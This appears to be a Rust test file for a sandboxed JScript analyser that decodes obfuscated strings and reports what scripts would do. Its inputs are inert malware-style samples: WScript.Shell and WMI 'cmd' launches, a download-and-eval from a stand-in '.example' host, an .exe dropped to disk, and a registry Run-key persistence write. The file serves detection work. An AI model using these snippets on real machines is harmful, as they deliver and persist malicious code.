//! Scripts and what must come out of them. Everything is inert: hosts end in `.example`, nothing is run.

use super::*;
use crate::budget::Limits;

fn outcome(script: &str) -> Option<Outcome> {
    run(script, &Budget::new(Limits::default(), |_| ())).unwrap()
}

fn steps(script: &str) -> Vec<String> {
    let found = outcome(script).unwrap_or_else(|| panic!("{script} is no script"));
    found.steps.into_iter().map(|step| format!("{:?} {}", step.kind, step.detail)).collect()
}

fn value(script: &str) -> Option<Known> {
    outcome(script).and_then(|outcome| outcome.value)
}

#[test]
fn values_of_the_language() {
    for (script, expected) in [
        ("'a' + 'b' + 1", "ab1"),
        ("String.fromCharCode(99, 0x6d, 100)", "cmd"),
        ("unescape('%63%6D%u0064')", "cmd"),
        ("decodeURIComponent('%E3%81%82')", "あ"),
        ("'dmc'.split('').reverse().join('')", "cmd"),
        ("'c-m-d'.split('-').join('')", "cmd"),
        ("'cXmXd'.replace(/X/g, '')", "cmd"),
        ("var a = ['d', 'c', 'm']; a[1] + a[2] + a[0]", "cmd"),
        ("var s = ''; for (var i = 0; i < 3; i++) { s += 'cmd'.charAt(i) } s", "cmd"),
        ("var s = ''; for (var i in [9, 10]) s = s + i; s", "01"),
        (
            "function f(x) { return x ^ 1 } var k = [98, 108, 101], t = ''; for (var i = 0; i < k.length; i++) t += String.fromCharCode(f(k[i])); t",
            "cmd",
        ),
        ("var o = { 'x': 'cm', y: function (z) { return this.x + z } }; o.y('d')", "cmd"),
        ("(function () { return arguments[0] + arguments.length })('cmd', 2)", "cmd2"),
        ("eval('\"c\" + \"md\"')", "cmd"),
        ("new Function('a', 'return a + \"d\"')('cm')", "cmd"),
        ("'xcmdx'.substr(1, 3)", "cmd"),
        ("'xcmdx'.slice(1, -1)", "cmd"),
        ("parseInt('63', 16) + ''", "99"),
        ("(99).toString(16)", "63"),
        ("'\\x63\\u006dd\\\nx'", "cmdx"),
        ("var s = 'c'; switch (s) { case 'a': s = 'x'; break; case 'c': s += 'md'; default: s += '!' } s", "cmd!"),
        ("var n = 3, s = ''; do { s += n } while (--n) s", "321"),
        ("try { throw 'cmd' } catch (e) { e }", "cmd"),
        ("/*@cc_on 'c' + @*/ 'md'", "cmd"),
        ("typeof x == 'undefined' ? 1 : 2; 'cmd'", "cmd"),
        ("'a,b;c'.split(/[,;]/).join('')", "abc"),
        ("'abc'.replace(/b/, function (x) { return x.toUpperCase() })", "aBc"),
        ("[3, 4].concat([5]).slice(1).join('')", "45"),
        ("atob('Y21k')", "cmd"),
        ("Math.floor(7 / 2) + '' + (7 % 4) + (1 << 4) + (-1 >>> 28)", "331615"),
    ] {
        let found = value(script);
        let tried = matches!(script, s if s.starts_with("try"));
        assert!(tried && found.is_none() || found == Some(Known::Text(expected.into())), "{script}: {found:?}");
    }
}

#[test]
fn what_scripts_do() {
    for (script, expected) in [
        ("new ActiveXObject('WScript.Shell').Run('cmd /c x', 0)", "Run cmd /c x"),
        ("var s = WScript.CreateObject(\"WSc\" + \"ript.Shell\"); s['R' + 'un'](unescape('%63md'))", "Run cmd"),
        ("new ActiveXObject('Shell.Application').ShellExecute('cmd', '/c x', '', 'open', 0)", "Run cmd /c x"),
        ("GetObject('winmgmts:Win32_Process').Create('cmd /c x')", "Run cmd /c x"),
        ("GetObject('winmgmts:').Get('Win32_Process').Create('cmd /c x')", "Run cmd /c x"),
        ("GetObject('script:http://a.example/x.sct')", "Run script:http://a.example/x.sct"),
        (
            "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example/x', false); x.send(); eval(x.responseText)",
            "Fetch http://a.example/x",
        ),
        (
            "var x = new ActiveXObject('MSXML2.XMLHTTP'), s = new ActiveXObject('ADODB.Stream'); x.open('GET', 'http://a.example/x.exe', 0); s.Write(x.responseBody); s.SaveToFile('a.exe')",
            "Download http://a.example/x.exe a.exe",
        ),
        (
            "new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\a', 'x')",
            "Persist HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a",
        ),
        (
            "var f = new ActiveXObject('Scripting.FileSystemObject'); f.CreateTextFile('a.bat').Write('x')",
            "Write a.bat",
        ),
        (
            "new ActiveXObject('MMC20.Application').Document.ActiveView.ExecuteShellCommand('cmd', null, '/c x', '7')",
            "Run cmd /c x",
        ),
        (
            "GetObject('new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}').Item().Document.Application.ShellExecute('cmd')",
            "Run cmd",
        ),
        ("if (WScript.Arguments.length) { new ActiveXObject('WScript.Shell').Run('a') }", "Run a"),
        ("try { nothing() } catch (e) { new ActiveXObject('WScript.Shell').Run('a') }", "Run a"),
        ("window.setTimeout('new ActiveXObject(\"WScript.Shell\").Run(\"a\")', 1)", "Run a"),
        ("document.write('<scr' + 'ipt>new ActiveXObject(\"WScript.Shell\").Run(\"a\")</script>')", "Run a"),
        ("new ActiveXObject(secret).Run('a')", "Run a"),
    ] {
        assert!(steps(script).iter().any(|step| step == expected), "{script}: {:?}", steps(script));
    }
}

#[test]
fn honest_scripts_do_nothing() {
    for script in [
        "function get(o, k) { return o[k]; }",
        "function keys(o) { var k = []; for (var i in o) { k.push(i) } return k; }",
        "document.getElementById('a').value = 'Run cmd'; // new ActiveXObject('WScript.Shell')",
        "var f = new ActiveXObject('Scripting.FileSystemObject'); f.OpenTextFile('a.txt', 1).ReadAll()",
        "new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%')",
    ] {
        assert_eq!(steps(script), [""; 0], "{script}");
    }
}

#[test]
fn other_languages_are_none() {
    for script in [
        "CreateObject(\"WScript.Shell\").Run \"cmd\"",
        "Dim x\nSet x = CreateObject(\"a\")",
        "powershell -c x",
        "<script>x</script>",
        "'",
        "/*",
        "a b",
    ] {
        assert!(outcome(script).is_none(), "{script}");
    }
}

#[test]
fn hostile_scripts_end() {
    let deep = format!("{}1{}", "(".repeat(5000), ")".repeat(5000));
    assert!(outcome(&deep).is_none());
    let calls = "function f(n) { return f(n + 1) + f(n) } f(0)";
    assert!(outcome(calls).unwrap().cut);
    for script in [
        "while (true) {}",
        "var s = 'x'; while (1) s += s",
        "var a = []; for (;;) a.push(a.join('x'))",
        "function f() { eval('f()') } f()",
        "var a = []; a[999999999] = 1; a[40000] = 2; a.join('')",
        "var s = 'abc'; for (var i = 0; i < 1e9; i++) { s = s.split('').reverse().join('') + s }",
        "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'.replace(/(a+)+b/, '')",
        "var a = []; for (;;) a.push(new Array(4096))",
        "var l = new Array(4096), a = []; function f() { return arguments } for (;;) a.push(f.apply(null, l))",
        "var s = 'x'; for (var i = 0; i < 17; i++) s += s; var o = {}; for (i = 0; ; i++) o[s + i] = i",
        "var s = 'x'; for (var i = 0; i < 17; i++) s += s; for (;;) s.indexOf(s.substr(1) + 'y')",
        "var s = 'x'; for (var i = 0; i < 17; i++) s += s; for (;;) +s",
    ] {
        outcome(script).unwrap();
    }
    assert!(scripts(&"<".repeat(1 << 20)).is_empty());
    let sum = format!("'a'{}", " + 'b'".repeat(30_000));
    assert!(outcome(&sum).is_some());
    let chain = format!("x{}", ".a()".repeat(30_000));
    assert!(outcome(&chain).is_some());
    let long = "var s = ''; for (var i = 0; i < 60000; i++) s = s + 'x'; s.length";
    assert_eq!(value(long), Some(Known::Number(60_000.0)));
}

#[test]
fn scripts_inside_pages() {
    let page = "<job><script language=\"JScript\"><![CDATA[ x() ]]></script><SCRIPT language='VBScript'>y</SCRIPT>\
                <ms:script implements-prefix=\"u\">z</ms:script><scripts>no</scripts><script src='a'/></job>";
    let found: Vec<(String, bool)> =
        scripts(page).into_iter().map(|script| (script.text.trim().to_owned(), script.is_basic)).collect();
    assert_eq!(found, [("x()".into(), false), ("y".into(), true), ("z".into(), false)]);
}

#[test]
fn what_was_not_run_is_told() {
    for script in [
        "for (;;) {}",
        "function f(n) { return f(n + 1) + f(n) } f(0)",
        "var s = 'x'; for (var i = 0; i < 40; i++) s += s; s",
        "var o = {}; for (var i = 0; i < 6000; i++) o['k' + i] = i",
    ] {
        let found = outcome(script).unwrap();
        assert!(found.cut && found.exhausted, "{script}");
    }
    // What is not known is no allowance that ended.
    let unknown = outcome("nobody.knows()").unwrap();
    assert!(unknown.cut && !unknown.exhausted);
    let whole = outcome("for (var i = 0; i < 300; i++) 'x'.indexOf('y')").unwrap();
    assert!(!whole.cut && !whole.exhausted);
}

#[test]
fn steps_beyond_those_that_are_kept_are_told() {
    let script = |n: u32| {
        let script =
            format!("var s = new ActiveXObject('WScript.Shell'); for (var i = 0; i < {n}; i++) s.Run('x' + i)");
        let found = outcome(&script).unwrap();
        (found.steps.len(), found.cut, found.exhausted)
    };
    assert_eq!(script(256), (256, false, false));
    assert_eq!(script(257), (256, true, true));
    let long =
        outcome("var t = 'x'; while (t.length < 70000) t += t; new ActiveXObject('WScript.Shell').Run(t)").unwrap();
    assert!(long.exhausted && long.steps.len() == 1);
}

#[test]
fn many_scripts_of_a_page_are_all_read() {
    let page: String =
        (0..100).map(|at| format!("<script>a{at}()</script><script type=vbscript>b{at}</script>")).collect();
    let found = scripts(&page);
    let text = |basic: bool| found.iter().filter(|s| s.is_basic == basic).map(|s| s.text.as_str()).collect::<String>();
    assert!(found.len() <= 66 && text(false).contains("a99()") && text(true).contains("b99"), "{found:?}");
    assert!(!text(false).contains('b'));
}
